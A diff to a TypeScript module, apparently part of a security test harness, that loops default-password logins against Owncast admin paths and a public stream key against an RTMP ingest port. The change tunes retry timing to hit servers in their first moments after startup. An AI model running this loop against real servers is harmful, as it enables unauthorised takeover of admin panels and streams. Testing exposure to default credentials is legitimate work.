@@ -33,6 +33,9 @@ export interface RunningAttack {
   stop(): Promise<Attack>;
 }
 
+/** Tries are frequent while no server responds, so that they meet its first moments. Later each log-in costs Owncast 75 ms. */
+const pauseMs = (answered: boolean): number => (answered ? 1000 : 20);
+
 /** Tries the public password and key in a loop until it is stopped. Servers may start later. */
 export function startAttack({ web, rtmpPort }: AttackTargets): RunningAttack {
   const admin = { won: 0, answered: 0 };
@@ -48,12 +51,14 @@ export function startAttack({ web, rtmpPort }: AttackTargets): RunningAttack {
   };
   const tryAdmin = async () => {
     while (running) {
+      const { answered } = admin;
       for (const target of web) for (const path of adminPaths) await tryPath(target, path).catch(() => {});
-      await sleep(100);
+      await sleep(pauseMs(admin.answered > answered));
     }
   };
   const tryIngest = async () => {
-    for (; running; await sleep(200)) {
+    for (let answered = 0; running; await sleep(pauseMs(ingest.answered > answered))) {
+      answered = ingest.answered;
       const camera = await rawCamera(rtmpPort).catch(() => undefined);
       if (!camera) continue;
       camera.send(wire.greeting(publicKey));
